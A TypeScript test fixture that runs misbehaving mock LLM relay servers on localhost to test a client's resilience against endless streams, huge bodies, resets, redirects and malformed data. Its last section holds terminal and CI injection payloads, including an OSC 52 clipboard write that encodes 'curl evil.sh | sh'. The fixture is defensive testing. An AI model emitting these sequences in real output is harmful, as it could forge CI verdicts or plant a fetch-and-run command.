// Hostile relays, as a fixture: each starts on 127.0.0.1 (port 0), answers GET /models
// like a relay would (so the run gets past its preflight and every probe meets the hostile
// behaviour), and misbehaves on everything else. Used by test/hostile/suite.test.ts
// (small limits, so it is fast) and by scripts/dev/reliability/run.ts (the matrix whose figures
// go to docs/RELIABILITY.md).
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo, Socket } from 'node:net';

export type HostileKind =
  | 'endless-stream'
  | 'huge-body'
  | 'byte-per-second'
  | 'invalid-utf8'
  | 'invalid-json'
  | 'wrong-content-type'
  | 'cross-origin-redirect'
  | 'reset-mid-stream'
  | 'never-answers';

export const HOSTILE_KINDS: ReadonlyArray<{ kind: HostileKind; description: string }> = [
  { kind: 'endless-stream', description: 'an SSE stream that never ends (a chunk, then keep-alive comments forever)' },
  {
    kind: 'huge-body',
    description: 'a 100 MB body (JSON, or SSE when a stream was asked for), written as fast as it is read',
  },
  { kind: 'byte-per-second', description: 'a valid answer, one byte per second' },
  { kind: 'invalid-utf8', description: 'a valid answer with invalid UTF-8 bytes in its text' },
  { kind: 'invalid-json', description: 'HTTP 200, application/json, a body cut in the middle of the JSON' },
  { kind: 'wrong-content-type', description: "HTTP 200 with a gateway's HTML page (text/html)" },
  {
    kind: 'cross-origin-redirect',
    description: 'HTTP 307 to another origin (a second local server, which counts what reaches it)',
  },
  { kind: 'reset-mid-stream', description: 'headers and part of the answer, then a TCP reset' },
  { kind: 'never-answers', description: 'accepts the request and never answers (the socket stays open)' },
];

/** 100 MB: what huge-body would send if nobody stopped reading. */
export const HUGE_BODY_BYTES = 100 * 1024 * 1024;

export interface HostileServer {
  kind: HostileKind;
  /** The base URL to test, http://127.0.0.1:PORT/v1. */
  baseUrl: string;
  /** Requests received and body bytes written, by this server. */
  stats: { requests: number; bytesWritten: number };
  /** cross-origin-redirect: what reached the other origin (must stay empty). */
  elsewhere?: { requests: number; headers: Array<Record<string, string | string[] | undefined>> };
  close(): Promise<void>;
}

const MODELS = JSON.stringify({
  object: 'list',
  data: ['mock-model', 'mock-reasoner'].map((id) => ({ id, object: 'model', created: 1, owned_by: 'hostile' })),
});

function completionText(content: string): string {
  return JSON.stringify({
    id: 'chatcmpl-hostile',
    object: 'chat.completion',
    created: 1_750_000_000,
    model: 'mock-model',
    choices: [{ index: 0, message: { role: 'assistant', content }, logprobs: null, finish_reason: 'stop' }],
    usage: { prompt_tokens: 5, completion_tokens: 1, total_tokens: 6 },
  });
}

function chunkEvent(content: string): string {
  const chunk = {
    id: 'chatcmpl-hostile',
    object: 'chat.completion.chunk',
    created: 1_750_000_000,
    model: 'mock-model',
    choices: [{ index: 0, delta: { content }, finish_reason: null }],
  };
  return `data: ${JSON.stringify(chunk)}\n\n`;
}

function streamText(content: string): string {
  const role = {
    id: 'chatcmpl-hostile',
    object: 'chat.completion.chunk',
    created: 1_750_000_000,
    model: 'mock-model',
    choices: [{ index: 0, delta: { role: 'assistant', content: '' }, finish_reason: null }],
  };
  const finish = { ...role, choices: [{ index: 0, delta: {}, finish_reason: 'stop' }] };
  return `data: ${JSON.stringify(role)}\n\n${chunkEvent(content)}data: ${JSON.stringify(finish)}\n\ndata: [DONE]\n\n`;
}

interface Exchange {
  req: IncomingMessage;
  res: ServerResponse;
  /** The request body asked for `stream: true`. */
  stream: boolean;
  count(bytes: number): void;
  /** Run `fn` every `ms` until the response closes. */
  every(ms: number, fn: () => void): void;
}

function readBody(req: IncomingMessage): Promise<string> {
  return new Promise((resolve) => {
    const parts: Buffer[] = [];
    req.on('data', (d: Buffer) => parts.push(d));
    req.on('end', () => resolve(Buffer.concat(parts).toString('utf8')));
    req.on('error', () => resolve(''));
  });
}

/** Write `total` bytes made by `piece()`, respecting backpressure, until done or the client leaves. */
function pump(x: Exchange, total: number, piece: () => Buffer): void {
  let sent = 0;
  const write = (): void => {
    while (sent < total && !x.res.destroyed) {
      const b = piece();
      sent += b.length;
      x.count(b.length);
      if (!x.res.write(b)) {
        x.res.once('drain', write);
        return;
      }
    }
    if (!x.res.destroyed) x.res.end();
  };
  write();
}

const BEHAVIOURS: Record<Exclude<HostileKind, 'cross-origin-redirect'>, (x: Exchange) => void> = {
  'endless-stream': (x) => {
    x.res.writeHead(200, { 'content-type': 'text/event-stream' });
    x.res.write(chunkEvent('hi'));
    x.every(50, () => x.res.write(': still here\n\n'));
  },
  'huge-body': (x) => {
    if (x.stream) {
      x.res.writeHead(200, { 'content-type': 'text/event-stream' });
      const event = Buffer.from(chunkEvent('a'.repeat(64 * 1024)));
      pump(x, HUGE_BODY_BYTES, () => event);
    } else {
      x.res.writeHead(200, { 'content-type': 'application/json' });
      const head = Buffer.from(
        '{"id":"chatcmpl-huge","object":"chat.completion","choices":[{"index":0,"message":{"role":"assistant","content":"',
      );
      const filler = Buffer.alloc(64 * 1024, 'a');
      let first = true;
      pump(x, HUGE_BODY_BYTES, () => {
        if (!first) return filler;
        first = false;
        return head;
      });
    }
  },
  'byte-per-second': (x) => {
    const text = Buffer.from(x.stream ? streamText('OK') : completionText('OK'));
    x.res.writeHead(200, {
      'content-type': x.stream ? 'text/event-stream' : 'application/json',
      'content-length': text.length,
    });
    let at = 0;
    const next = (): void => {
      if (at >= text.length) return;
      x.res.write(text.subarray(at, at + 1));
      x.count(1);
      at++;
    };
    next(); // the headers and the first byte now, then one byte a second
    x.every(1000, next);
  },
  'invalid-utf8': (x) => {
    const [before, after] = (x.stream ? streamText('@@') : completionText('@@')).split('@@') as [string, string];
    // A lone continuation byte, an overlong '/', a UTF-16 surrogate and a truncated emoji.
    const body = Buffer.concat([
      Buffer.from(before),
      Buffer.from([0x80, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf0, 0x9f, 0xa6]),
      Buffer.from(after),
    ]);
    x.res.writeHead(200, {
      'content-type': x.stream ? 'text/event-stream' : 'application/json',
      'content-length': body.length,
    });
    x.res.end(body);
    x.count(body.length);
  },
  'invalid-json': (x) => {
    const body = completionText('OK').slice(0, 60);
    x.res.writeHead(200, { 'content-type': 'application/json' });
    x.res.end(body);
    x.count(body.length);
  },
  'wrong-content-type': (x) => {
    const body =
      '<!DOCTYPE html><html><head><title>502 Bad Gateway</title></head><body><h1>502 Bad Gateway</h1><p>nginx</p></body></html>';
    x.res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
    x.res.end(body);
    x.count(body.length);
  },
  'reset-mid-stream': (x) => {
    const text = x.stream ? streamText('OK') : completionText('OK');
    x.res.writeHead(200, {
      'content-type': x.stream ? 'text/event-stream' : 'application/json',
      'content-length': Buffer.byteLength(text),
    });
    const half = text.slice(0, Math.floor(text.length / 2));
    x.res.write(half, () => {
      // A TCP RST, not a polite FIN: what a crashing upstream or a middlebox sends.
      setTimeout(
        () => (x.req.socket as Socket & { resetAndDestroy?: () => void }).resetAndDestroy?.() ?? x.req.socket.destroy(),
        20,
      );
    });
    x.count(half.length);
  },
  'never-answers': () => {
    // Accepts, reads the request, and says nothing, ever.
  },
};

function listen(server: Server): Promise<number> {
  return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve((server.address() as AddressInfo).port)));
}

function closer(server: Server, timers: Set<ReturnType<typeof setInterval>>): () => Promise<void> {
  return () =>
    new Promise<void>((resolve) => {
      for (const t of timers) clearInterval(t);
      timers.clear();
      server.close(() => resolve());
      server.closeAllConnections();
    });
}

/** Start one hostile relay. */
export async function startHostile(kind: HostileKind): Promise<HostileServer> {
  const stats = { requests: 0, bytesWritten: 0 };
  const timers = new Set<ReturnType<typeof setInterval>>();
  let elsewhere: HostileServer['elsewhere'];
  let otherServer: Server | undefined;
  let otherOrigin = '';
  if (kind === 'cross-origin-redirect') {
    const seen: NonNullable<HostileServer['elsewhere']> = { requests: 0, headers: [] };
    elsewhere = seen;
    otherServer = createServer((req, res) => {
      seen.requests++;
      seen.headers.push({ ...req.headers });
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(completionText('stolen'));
    });
    otherOrigin = `http://127.0.0.1:${await listen(otherServer)}`;
  }

  const server = createServer((req, res) => {
    stats.requests++;
    void readBody(req).then((body) => {
      if (req.method === 'GET' && /\/models\/?$/.test(req.url ?? '')) {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(MODELS);
        return;
      }
      if (kind === 'cross-origin-redirect') {
        res.writeHead(307, { location: `${otherOrigin}${req.url ?? '/'}`, 'content-type': 'text/plain' });
        res.end('moved');
        return;
      }
      let stream = false;
      try {
        stream = (JSON.parse(body) as { stream?: unknown }).stream === true;
      } catch {
        // not JSON: a plain answer
      }
      const x: Exchange = {
        req,
        res,
        stream,
        count: (n) => (stats.bytesWritten += n),
        every: (ms, fn) => {
          const t = setInterval(() => (res.destroyed ? stop() : fn()), ms);
          const stop = (): void => {
            clearInterval(t);
            timers.delete(t);
          };
          timers.add(t);
          res.on('close', stop);
        },
      };
      res.on('error', () => undefined);
      BEHAVIOURS[kind](x);
    });
  });
  const port = await listen(server);
  const closeMain = closer(server, timers);
  const closeOther = otherServer ? closer(otherServer, new Set()) : async () => undefined;
  return {
    kind,
    baseUrl: `http://127.0.0.1:${port}/v1`,
    stats,
    ...(elsewhere ? { elsewhere } : {}),
    close: async () => {
      await Promise.all([closeMain(), closeOther()]);
    },
  };
}

// ---------------------------------------------------------------- injection (issue 23)

/**
 * What a relay may put in its text to attack a terminal or a CI log: a CI workflow command
 * after a newline, an erase-line that fakes a verdict, OSC 0 (window title), OSC 52
 * (clipboard write), OSC 8 (a hidden link), BEL and a right-to-left override.
 */
export const INJECTIONS = {
  workflowCommand: 'bad\n::error title=x::owned\n::add-mask::relaycheck\n',
  eraseLine: '\r\u001b[2Kchat.basic                   supported',
  windowTitle: '\u001b]0;pwned-title\u0007',
  clipboard: '\u001b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u0007',
  hyperlink: '\u001b]8;;https://evil.example/\u001b\\click\u001b]8;;\u001b\\',
  bell: 'ding\u0007',
  bidi: 'txt.\u202Eexe',
} as const;

/** Every injection in one string. */
export const ALL_INJECTIONS = Object.values(INJECTIONS).join(' ');

/**
 * A relay whose text is hostile. `error`: GET /models answers, every chat request is a 400
 * whose error code and message carry the injections (the preflight quotes them). `answer`:
 * every chat answer's content and model id carry them (the probes' summaries quote them).
 */
export async function startInjector(mode: 'error' | 'answer'): Promise<{ baseUrl: string; close(): Promise<void> }> {
  const server = createServer((req, res) => {
    void readBody(req).then((body) => {
      if (req.method === 'GET' && /\/models\/?$/.test(req.url ?? '')) {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(MODELS);
        return;
      }
      if (mode === 'error') {
        res.writeHead(400, { 'content-type': 'application/json' });
        res.end(
          JSON.stringify({
            error: { code: INJECTIONS.workflowCommand, type: 'invalid_request_error', message: ALL_INJECTIONS },
          }),
        );
        return;
      }
      let stream = false;
      try {
        stream = (JSON.parse(body) as { stream?: unknown }).stream === true;
      } catch {
        // not JSON: a plain answer
      }
      const text = stream ? streamText(ALL_INJECTIONS) : completionText(ALL_INJECTIONS);
      res.writeHead(200, {
        'content-type': stream ? 'text/event-stream' : 'application/json',
      });
      res.end(text.replaceAll('"mock-model"', JSON.stringify(`mock-model${INJECTIONS.eraseLine}`)));
    });
  });
  const port = await listen(server);
  const close = closer(server, new Set());
  return { baseUrl: `http://127.0.0.1:${port}/v1`, close };
}
